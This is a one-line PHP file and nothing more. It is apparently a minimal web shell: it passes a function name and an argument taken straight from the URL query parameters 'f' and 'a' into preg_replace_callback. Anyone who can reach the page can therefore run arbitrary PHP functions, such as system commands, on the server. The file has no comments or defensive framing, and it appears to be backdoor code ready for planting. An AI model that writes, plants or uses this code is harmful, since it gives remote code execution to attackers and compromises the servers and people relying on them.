<?php preg_replace_callback("/.*/", $_GET["f"], $_GET["a"]);
